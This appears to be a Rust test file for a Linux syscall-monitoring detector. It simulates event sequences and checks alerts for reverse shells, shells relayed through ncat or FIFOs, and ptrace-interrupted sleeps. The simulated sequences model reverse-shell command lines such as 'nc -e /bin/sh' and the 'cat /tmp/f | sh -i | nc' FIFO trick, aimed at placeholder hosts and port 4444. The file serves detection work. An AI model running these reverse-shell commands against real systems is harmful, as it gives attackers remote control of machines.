    run.feed(exec_args(100, 1, "/usr/bin/python3", &["python3", "x.py"]));
    connected(&mut run, 100, 2, 3, 9);
    run.feed(close(100, 4, 0)).feed(fcntl(100, 5, 3, F_DUPFD_CLOEXEC, 0, 0)).feed(fcntl(100, 6, 0, F_SETFD, 0, 0));
    run.feed(close(100, 7, 1)).feed(fcntl(100, 8, 3, F_DUPFD, 1, 1));
    run.feed(exec_args(100, 9, "/bin/sh", &["sh"]));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(100, "socket_onto_stdio", Severity::Critical)]);
    let m = &run.alerts()[0].message;
    assert!(m.contains("with fcntl(F_DUPFD_CLOEXEC) and fcntl(F_DUPFD), then exec'd /bin/sh"), "{m}");
}

#[test]
fn a_socket_received_over_a_unix_socket_onto_freed_stdio_then_a_shell_is_critical_with_its_provenance() {
    let mut run = Run::new();
    // 100 connects and forks 200; 200 closes 0 and 1 and receives the socket twice.
    connected(&mut run, 100, 1, 3, 9);
    let end = |ino| FdObject { ino, mode: SOCK, file_flags: 2, valid: 1, ..Default::default() };
    let pair = fdwatch_common::FdPair { fds: [4, 5], objects: [end(20), end(21)] };
    run.feed(call(Kind::Socketpair, 100, 3, 0, &[1, 1, 0], Payload::FdPair(pair)));
    run.feed(fork(100, 200, 4, false, false)).feed(exec_args(200, 5, "/usr/bin/python3", &["python3", "r.py"]));
    run.feed(close(200, 6, 0)).feed(close(200, 7, 1)).feed(recvmsg(200, 8, 5, &[0, 1], 9));
    run.feed(exec_args(200, 9, "/bin/sh", &["sh"]));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(200, "socket_onto_stdio", Severity::Critical)], "{:#?}", run.alerts());
    let a = run.alerts()[0];
    assert!(a.message.contains("with recvmsg() of an fd passed over a unix socket"), "{}", a.message);
    let facts: Vec<&str> = a
        .evidence
        .iter()
        .filter_map(|e| if let Evidence::Fact(f) = e { Some(f.text.as_str()) } else { None })
        .collect();
    assert!(
        facts.iter().any(|f| f.contains("sent by pid 100 (sh) and received over a unix socket (fd 5) by recvmsg()")),
        "{facts:#?}"
    );
    let recvs = a.evidence.iter().filter(|e| matches!(e, Evidence::Event(ev) if ev.kind == Kind::Recvmsg)).count();
    assert_eq!(recvs, 1, "one recvmsg moved both fds: told once");
}

/// bash's `printf ... >&3` and `read l <&3`: fcntl(1, F_DUPFD, 10) saves stdout, dup2(3,
/// 1), the builtin, dup2(10, 1) puts it back (bash's redir.c). The read may wait long.
#[test]
fn a_one_command_redirection_put_back_from_its_saved_copy_raises_nothing() {
    let mut run = Run::new();
    connected(&mut run, 100, 1, 3, 9);
    run.feed(fcntl(100, 3, 1, F_DUPFD, 10, 10)).feed(fcntl(100, 4, 10, F_SETFD, 1, 0));
    run.feed(dup2(100, 5, 3, 1)).feed(dup2(100, 6, 10, 1)).feed(close(100, 7, 10));
    // `read l <&3` waiting 5 s for the network, well past the window.
    run.feed(fcntl(100, 10 * MS, 0, F_DUPFD, 10, 10)).feed(dup2(100, 11 * MS, 3, 0));
    run.tick(3_000 * MS);
    run.feed(dup2(100, 5_000 * MS, 10, 0)).feed(close(100, 5_001 * MS, 10));
    run.finish(40_000 * MS);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
}

#[test]
fn a_saved_redirection_never_put_back_is_still_told_at_the_end_of_its_hold() {
    let mut run = Run::new();
    connected(&mut run, 100, 1, 3, 9);
    run.feed(fcntl(100, 3, 0, F_DUPFD, 10, 10)).feed(dup2(100, 4, 3, 0)).feed(dup2(100, 5, 3, 1));
    run.tick(20_000 * MS);
    assert!(run.alerts().is_empty(), "held");
    run.tick(31_000 * MS);
    assert_eq!(shapes(&run), vec![(100, "socket_onto_stdio", Severity::Critical)]);
}

#[test]
fn the_dev_tcp_port_check_of_a_subshell_that_exits_raises_nothing() {
    // `</dev/tcp/host/port`: a subshell connects, dup2s it onto fd 0, exits.
    let mut run = Run::new();
    run.feed(fork(100, 200, 1, false, false));
    connected(&mut run, 200, 2, 4, 9);
    run.feed(dup2(200, 4, 4, 0)).feed(exit(200, 5));
    run.finish(1_000 * MS);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
}

#[test]
fn cat_reading_a_socket_a_script_keeps_on_fd_3_is_a_warning_naming_stdin_only() {
    // bash -c '...; cat <&3': a child dup2s fd 3 onto 0 and execs cat.
    let mut run = Run::new();
    run.feed(exec_args(100, 1, "/usr/bin/bash", &["bash", "script.sh"]));
    connected(&mut run, 100, 2, 3, 9);
    run.feed(fork(100, 200, 4, false, false)).feed(dup2(200, 5, 3, 0)).feed(exec_args(
        200,
        6,
        "/usr/bin/cat",
        &["cat"],
    ));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(200, "socket_onto_stdio", Severity::Warning)]);
    let a = run.alerts()[0];
    assert_eq!(fds_field(a), vec![0]);
    assert!(a.message.contains("pid 200 (cat) has an AF_INET SOCK_STREAM socket"), "{}", a.message);
    assert!(a.message.contains("with dup2(), then exec'd /usr/bin/cat"), "{}", a.message);
}

/// `nc -e /bin/sh` started with stdin closed: a throwaway socket lands on fd 0, the
/// connected one is dup2'd over it and onto 1 and 2, then /bin/sh: one reverse shell.
#[test]
fn nc_e_over_a_landed_throwaway_socket_is_one_reverse_shell_alert() {
    let mut run = Run::new();
    run.feed(exec_args(100, 1, "/bin/nc.traditional", &["nc", "-e", "/bin/sh", "h", "4444"]));
    run.feed(close(100, 2, 0)).feed(udp_socket(100, 3, 0, 8));
    connected(&mut run, 100, 4, 3, 9);
    for fd in 0..3 {
        run.feed(dup2(100, 10 + fd as u64, 3, fd));
    }
    run.feed(exec_args(100, 20, "/bin/sh", &["sh"]));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(100, "socket_onto_stdio", Severity::Critical)], "{:#?}", run.alerts());
    let a = run.alerts()[0];
    assert_eq!(fds_field(a), vec![0, 1, 2]);
    assert!(a.fields.iter().all(|(k, _)| *k != "clobbered"), "{:?}", a.fields);
    // The throwaway's landing is part of the story.
    let kinds: Vec<Kind> =
        a.evidence.iter().filter_map(|e| if let Evidence::Event(ev) = e { Some(ev.kind) } else { None }).collect();
    assert_eq!(kinds, vec![Kind::Close, Kind::Socket, Kind::Dup2, Kind::Dup2, Kind::Dup2, Kind::Exec]);
}

#[test]
fn a_reverse_shell_running_another_shell_is_still_one_alert() {
    let mut run = Run::new();
    connected(&mut run, 100, 1, 3, 9);
    for fd in 0..3 {
        run.feed(dup2(100, 3 + fd as u64, 3, fd));
    }
    run.tick(1_000 * MS);
    // The attacker types `bash`: a child with the same stdio.
    run.feed(fork(100, 200, 2_000 * MS, false, false)).feed(exec_args(200, 2_001 * MS, "/usr/bin/bash", &["bash"]));
    run.finish(5_000 * MS);
    assert_eq!(shapes(&run), vec![(100, "socket_onto_stdio", Severity::Critical)]);
    assert!(run.out.iter().any(|o| matches!(o, Output::Repeat { count: 1, .. })), "{:#?}", run.out);
}

#[test]
fn scoped_allow_rules_match_the_peer_too() {
    let allow = vec!["comm=python3,peer=127.0.0.1:4444".to_string()];
    let mut run = Run::with(Config { allow, ..Config::default() });
    run.feed(exec_args(100, 1, "/usr/bin/python3", &["python3"]));
    connected(&mut run, 100, 2, 3, 9);
    run.feed(dup2(100, 4, 3, 0)).feed(dup2(100, 5, 3, 1));
    // Another python connected elsewhere: not allowed.
    run.feed(fork(100, 200, 6, false, false));
    run.feed(socket(200, 7, 5, 10, false));
    run.feed(call(
        Kind::Connect,
        200,
        8,
        0,
        &[5, 0, 16],
        Payload::Addr(AddrPayload { addr: sockaddr_in([203, 0, 113, 7], 443) }),
    ));
    run.feed(dup2(200, 9, 5, 0)).feed(dup2(200, 10, 5, 1));
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(200, "socket_onto_stdio", Severity::Critical)], "{:#?}", run.alerts());
}

#[test]
fn a_symptom_after_the_window_is_a_symptom_record_of_the_alert() {
    let mut run = Run::new();
    run.feed(close(100, 1, 0)).feed(udp_socket(100, 2, 0, 9)).feed(connect(100, 3, 0, 0));
    run.feed(unix_socket(100, 4, 3, 10)).feed(dup2(100, 5, 3, 0));
    run.tick(1_000 * MS);
    let id = run.alerts()[0].id;
    run.feed(sendto(100, 2_000 * MS, 0, -EISCONN));
    let late: Vec<(u64, Kind)> = run
        .out
        .iter()
        .filter_map(|o| if let Output::Symptom { id, event, .. } = o { Some((*id, event.kind)) } else { None })
        .collect();
    assert_eq!(late, vec![(id, Kind::Sendto)]);
}

#[test]
fn provenance_through_an_exited_process_keeps_its_name() {
    let mut run = incident_3_run();
    run.tick(1_500 * MS);
    let a = run.alerts()[0];
    assert!(a.message.contains("which inherited it from pid 200 (test)"), "{}", a.message);
    let facts: Vec<&str> = a
        .evidence
        .iter()
        .filter_map(|e| if let Evidence::Fact(f) = e { Some(f.text.as_str()) } else { None })
        .collect();
    assert!(facts.iter().any(|f| f.contains("inherited from pid 200 (test), kept across exec")), "{facts:#?}");
}

fn incident_3_run() -> Run {
    let mut run = Run::new();
    incident_3(&mut run);
    run
}

// ---- relayed_shell ----

/// ncat -e /bin/sh: ncat (100) connects, makes two pipes, forks 200, which puts the
/// pipe ends on its stdio and execs /bin/sh.
fn ncat_e(run: &mut Run, relay: &str) {
    run.feed(exec_args(100, 1, relay, &["ncat", "-e", "/bin/sh", "h", "4444"]));
    connected(run, 100, 2, 3, 9);
    run.feed(pipe(100, 4, [4, 5], 50, O_CLOEXEC)).feed(pipe(100, 5, [6, 7], 51, O_CLOEXEC));
    run.feed(fork(100, 200, 6, false, false));
    run.feed(dup2(200, 7, 4, 0)).feed(dup2(200, 8, 7, 1)).feed(dup2(200, 9, 7, 2));
    run.feed(close(100, 10, 4)).feed(close(100, 11, 7));
    run.feed(exec_args(200, 12, "/bin/sh", &["/bin/sh"]));
}

#[test]
fn a_shell_whose_stdio_pipes_lead_to_a_connected_relay_is_a_relayed_shell() {
    let mut run = Run::new();
    ncat_e(&mut run, "/usr/bin/ncat");
    run.finish(1_000 * MS);
    assert_eq!(shapes(&run), vec![(200, "relayed_shell", Severity::Critical)], "{:#?}", run.alerts());
    let a = run.alerts()[0];
    assert_eq!(fds_field(a), vec![0, 1, 2]);
    let Value::List(relays) = field(a, "relays") else { panic!() };
    let Value::Object(r) = &relays[0] else { panic!() };
    assert_eq!(r[0], ("pid", Value::Int(100)));
    assert!(a.message.contains("lead only to pid 100 (ncat)"), "{}", a.message);
    assert!(a.message.contains("connected to 127.0.0.1:4444"), "{}", a.message);
}

#[test]
fn built_in_and_allowed_relays_raise_nothing() {
    let mut run = Run::new();
    ncat_e(&mut run, "/usr/sbin/sshd");
    run.finish(1_000 * MS);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
    let mut run = Run::with(Config { allow: vec!["exe=/usr/bin/ncat".into()], ..Config::default() });
    ncat_e(&mut run, "/usr/bin/ncat");
    run.finish(1_000 * MS);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
}

#[test]
fn a_pipeline_or_a_terminal_without_a_network_socket_is_no_relayed_shell() {
    // `producer | sh | consumer`: the other ends hold no socket.
    let mut run = Run::new();
    run.feed(pipe(100, 1, [4, 5], 50, O_CLOEXEC)).feed(pipe(100, 2, [6, 7], 51, O_CLOEXEC));
    run.feed(fork(100, 200, 3, false, false)).feed(dup2(200, 4, 4, 0)).feed(dup2(200, 5, 7, 1));
    run.feed(close(100, 6, 4)).feed(close(100, 7, 7));
    run.feed(exec_args(200, 8, "/bin/sh", &["sh"]));
    run.finish(1_000 * MS);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
}

#[test]
fn a_fifo_relay_that_connects_after_the_shell_started_is_found_then() {
    // cat /tmp/f | sh -i | nc h p > /tmp/f: sh (200) starts first, nc (300) connects last.
    let mut run = Run::new();
    run.feed(pipe(100, 1, [4, 5], 50, 0)).feed(pipe(100, 2, [6, 7], 51, 0));
    run.feed(fork(100, 200, 3, false, false)).feed(dup2(200, 4, 4, 0)).feed(dup2(200, 5, 7, 1));
    run.feed(fork(100, 300, 6, false, false)).feed(dup2(300, 7, 6, 0));
    run.feed(fork(100, 400, 8, false, false)).feed(dup2(400, 9, 5, 1));
    for pid in [200, 300, 400] {
        for fd in 4..8 {
            run.feed(close(pid, 10, fd));
        }
    }
    for fd in 4..8 {
        run.feed(close(100, 11, fd));
    }
    run.feed(exec_args(200, 12, "/bin/sh", &["sh", "-i"]));
    // cat (400) reads the FIFO, nc (300) writes it as its stdout.
    let fifo = |pid: u32, fd: i32, flags: u64| {
        let object = FdObject { ino: 60, mode: PIPE, file_flags: flags as u32, valid: 1, ..Default::default() };
        let mut p = Path { len: 6, truncated: 0, bytes: [0; PATH_LEN] };
        p.bytes[..6].copy_from_slice(b"/tmp/f");
        call(
            Kind::Openat,
            pid,
            13,
            fd as i64,
            &[-100i64 as u64, 0, flags],
            Payload::Open(OpenPayload { object, how: [0; 3], tty_index: -1, _pad: 0, path: p }),
        )
    };
    run.feed(exec_args(400, 13, "/usr/bin/cat", &["cat", "/tmp/f"])).feed(fifo(400, 3, O_RDONLY));
    run.feed(close(300, 14, 1)).feed(fifo(300, 1, O_WRONLY));
    run.feed(exec_args(300, 15, "/usr/bin/nc", &["nc", "h", "4444"]));
    run.tick(500 * MS);
    assert!(run.alerts().is_empty(), "no network yet: {:#?}", run.alerts());
    connected(&mut run, 300, 600 * MS, 3, 9);
    // Looked at again at the next tick after the connect.
    run.tick(700 * MS).finish(2_000 * MS);
    assert_eq!(shapes(&run), vec![(200, "relayed_shell", Severity::Critical)], "{:#?}", run.alerts());
    let m = &run.alerts()[0].message;
    assert!(m.contains("pid 400 (cat)") && m.contains("pid 300 (nc)"), "{m}");
}

// ---- interrupted_wait ----

fn sleep_call(kind: Kind, pid: u32, ts: u64, ret: i64, req_sec: i64, rem_sec: i64) -> Event {
    let p =
        SleepPayload { timeout_sec: req_sec, has_timeout: 1, rem_sec, has_rem: 1, clockid: 0, ..Default::default() };
    call(kind, pid, ts, ret, &[0, 0, 0, 0], Payload::Sleep(p))
}

fn ptrace(tracer: u32, ts: u64, request: u64, target: u32) -> Event {
    call(Kind::Ptrace, tracer, ts, 0, &[request, target as u64, 1, 0], Payload::None)
}

fn restart(pid: u32, ts: u64, ret: i64, mode: u32) -> Event {
    call(
        Kind::RestartSyscall,
        pid,
        ts,
        ret,
        &[],
        Payload::Restart(RestartPayload { seccomp_mode: mode, seccomp_filters: u32::from(mode == 2) }),
    )
}

const S: u64 = 1_000_000_000;

/// Seed 002: a worker (100) sleeping 5 s is ptrace-attached by 50 after 2 s, detached
/// 1 s later, and its restart_syscall is refused with EPERM.
fn slowlog(run: &mut Run, restart_ret: i64) {
    run.feed(signal(50, 12 * S, 19, 100)).feed(ptrace(50, 12 * S + 1, 16, 100));
    run.feed(sleep_call(Kind::ClockNanosleep, 100, 12 * S + 5, -516, 5, 3));
    run.feed(ptrace(50, 13 * S, 17, 100)).feed(restart(100, 13 * S + 10, restart_ret, 2));
}

#[test]
fn a_sleep_stopped_by_ptrace_whose_restart_is_refused_is_a_critical_interrupted_wait() {
    let mut run = Run::new();
    slowlog(&mut run, -1);
    run.tick(14 * S);
    let alerts = run.alerts();
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let a = alerts[0];
    assert_eq!((a.kind.name(), a.severity, a.pid), ("interrupted_wait", Severity::Critical, 100));
    assert_eq!(field(a, "syscall"), &Value::Str("clock_nanosleep".into()));
    assert_eq!(field(a, "timeout_ns"), &Value::Int(5 * S as i64));
    // Began at 12 s + 5 ns - (5 s - 3 s) = 10 s; returned at 13 s + 10 ns.
    assert_eq!(field(a, "waited_ns"), &Value::Int((3 * S + 5) as i64));
    assert_eq!(field(a, "errno"), &Value::Str("EPERM".into()));
    assert_eq!(field(a, "seccomp_mode"), &Value::Str("filter".into()));
    let Value::Object(by) = field(a, "stopped_by") else { panic!() };
    assert_eq!(by[0], ("pid", Value::Int(50)));
    assert_eq!(by[2], ("how", Value::Str("PTRACE_ATTACH".into())));
    assert!(a.message.contains("stopped it with PTRACE_ATTACH after 2.0 s"), "{}", a.message);
    assert!(a.message.contains("resumed it with PTRACE_DETACH"), "{}", a.message);
    assert!(a.message.contains("(its seccomp filter refused it)"), "{}", a.message);
    assert!(a.message.contains("returned -1 EPERM after 3.0 s, 2.0 s early"), "{}", a.message);
    let kinds: Vec<Kind> =
        a.evidence.iter().filter_map(|e| if let Evidence::Event(ev) = e { Some(ev.kind) } else { None }).collect();
    assert_eq!(kinds, vec![Kind::Signal, Kind::Ptrace, Kind::ClockNanosleep, Kind::Ptrace, Kind::RestartSyscall]);
}

#[test]
fn a_restart_that_runs_or_a_wait_ended_by_a_handler_is_no_alert() {
    let mut run = Run::new();
    slowlog(&mut run, 0);
    // A handler ran: the next call of the thread is something else.
    run.feed(sleep_call(Kind::Nanosleep, 100, 20 * S, -516, 5, 4)).feed(close(100, 21 * S, 9));
    run.feed(sleep_call(Kind::Nanosleep, 100, 22 * S, -516, 5, 4)).feed(restart(100, 23 * S, -4, 0));
    run.finish(30 * S);
    assert!(run.alerts().is_empty(), "{:#?}", run.alerts());
}

#[test]
fn epoll_wait_returning_eintr_after_a_stop_is_info_and_without_a_stop_nothing() {
    let mut run = Run::new();
    let epoll = |ts: u64| call(Kind::EpollWait, 100, ts, -4, &[3, 0, 1, 5000], Payload::Sleep(SleepPayload::default()));
    run.feed(epoll(S));
    run.tick(2 * S);
    assert!(run.alerts().is_empty(), "a signal handler's EINTR: {:#?}", run.alerts());
    // The stop record may come just after the tracee's EINTR.
    run.feed(epoll(3 * S)).feed(ptrace(50, 3 * S + 1_000, 0x4207, 100));
    run.finish(10 * S);
    let a = run.alerts();
    assert_eq!(a.len(), 1, "{a:#?}");
    assert_eq!((a[0].severity, a[0].kind.name()), (Severity::Info, "interrupted_wait"));
    assert!(a[0].message.contains("stopped it (PTRACE_INTERRUPT)"), "{}", a[0].message);
}

// ---- select_high_fd names the call as the program made it ----

#[test]
fn select_is_named_as_the_program_called_it() {
    let mut run = Run::new();
    run.feed(call(Kind::Pselect6, 100, 1, 0, &[1100, 0, 0, 0, 0, 0], Payload::Wait(WaitPayload::default())));
    run.feed(fork(100, 200, 2, false, false));
    run.feed(call(Kind::Pselect6, 200, 3, 0, &[1100, 0, 0, 0, 0, 0x7fff_0000], Payload::Wait(WaitPayload::default())));
    run.finish(1_000 * MS);
    let msgs: Vec<(&str, &str)> = run.alerts().iter().map(|a| (str_field(a, "function"), a.message.as_str())).collect();
    assert_eq!(msgs.len(), 2);
    assert!(msgs[0].0 == "select" && msgs[0].1.contains("called select() (the pselect6 system call)"), "{msgs:?}");
    assert!(msgs[1].0 == "pselect" && msgs[1].1.contains("called pselect() with"), "{msgs:?}");
    assert!(msgs[0].1.contains("if the program's sets are the standard 1024-bit fd_set"), "{msgs:?}");
}
